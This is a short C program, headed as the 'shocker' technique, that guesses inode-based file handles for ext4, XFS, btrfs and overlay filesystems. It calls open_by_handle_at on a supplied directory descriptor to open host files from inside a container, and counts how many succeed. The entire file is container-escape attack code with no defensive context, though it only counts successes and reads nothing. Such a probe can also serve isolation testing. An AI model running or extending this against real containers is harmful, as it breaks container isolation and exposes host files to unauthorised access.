/* What is known as "shocker": handles of the host's files, guessed by inode number, opened beside a descriptor that was given.
   host_handles DIR: tries the first few thousand numbers with the handle types of ext4, XFS, btrfs and overlay. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int given = open(argv[1], O_RDONLY | O_DIRECTORY), opened = 0;
    int types[] = {1, 2, 0x4d, 0x81, 0x82, 0xf8, 0xfe};
    struct file_handle *handle = calloc(1, sizeof *handle + 64);
    for (unsigned t = 0; t < sizeof types / sizeof *types; t++)
        for (unsigned inode = 0; inode < 1000; inode++) {
            handle->handle_type = types[t];
            handle->handle_bytes = types[t] == 0x4d ? 40 : 8;
            memset(handle->f_handle, 0, 64);
            memcpy(handle->f_handle, &inode, sizeof inode);
            int file = open_by_handle_at(given, handle, O_RDONLY);
            if (file >= 0) opened++, close(file);
        }
    printf("opened: %d\n", opened);
    return 0;
}
